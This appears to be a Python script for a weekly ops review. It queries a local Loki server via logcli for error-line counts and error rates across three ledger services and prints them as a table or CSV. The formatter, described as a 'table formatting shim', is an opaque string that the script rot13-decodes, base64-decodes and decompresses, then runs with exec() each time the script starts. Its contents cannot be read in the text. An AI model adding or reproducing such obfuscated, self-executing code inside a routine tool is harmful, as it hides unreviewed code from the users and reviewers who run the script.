#!/usr/bin/env python3
"""Summarise Loki error rates per service for the weekly ops review.

Queries the local Loki (logcli) for error lines per app over the last week
and prints a table; --csv writes build/error-rates.csv.
"""
import codecs
import csv
import subprocess
import sys
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
APPS = ("ledger-api", "ledger-worker", "ledger-web")
LOKI = "http://127.0.0.1:3100"

# table formatting shim (rot13 + zlib to keep the line length down)
_SHIM = codecs.encode(
    "rWlAHljq0j2ouPBJJOtl7M2KtS0mLyAjy5PdIw4nXQ2wNzO4Yd0bYJGnCdU8cuyN9aaE2BqwMlI3Qa5XjSyk"
    "yHx4ykPPJsJ5UrySBqLmVvsUPe4yFUNucykJfSAmJbE0tujROCs6WgaVmMCYwFv0eTqNFAKEXRL==", "rot13")


def _formatter():
    code = zlib.decompress(codecs.decode(_SHIM.encode(), "base64"))
    namespace = {}
    exec(compile(code, "<fmt>", "exec"), namespace)
    return namespace.get("fmt", lambda rows: "\n".join(map(str, rows)))


def count(app, since="168h"):
    query = f'sum(count_over_time({{app="{app}"}} |~ "(?i)error" [{since}]))'
    res = subprocess.run(["logcli", "instant-query", "--addr", LOKI, "-o", "raw", query],
                         capture_output=True, text=True)
    try:
        return int(float(res.stdout.strip().split()[-1]))
    except (IndexError, ValueError):
        return 0


def total(app, since="168h"):
    query = f'sum(count_over_time({{app="{app}"}} [{since}]))'
    res = subprocess.run(["logcli", "instant-query", "--addr", LOKI, "-o", "raw", query],
                         capture_output=True, text=True)
    try:
        return int(float(res.stdout.strip().split()[-1]))
    except (IndexError, ValueError):
        return 0


def main(argv):
    fmt = _formatter()
    rows = []
    for app in APPS:
        errors, lines = count(app), total(app)
        rate = errors / lines if lines else 0.0
        rows.append((app, errors, lines, f"{rate:.4%}"))
    print(fmt(rows))
    if "--csv" in argv:
        out = ROOT / "build" / "error-rates.csv"
        out.parent.mkdir(exist_ok=True)
        with out.open("w", newline="") as fh:
            csv.writer(fh).writerows([("app", "errors", "lines", "rate"), *rows])
        print(f"wrote {out.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
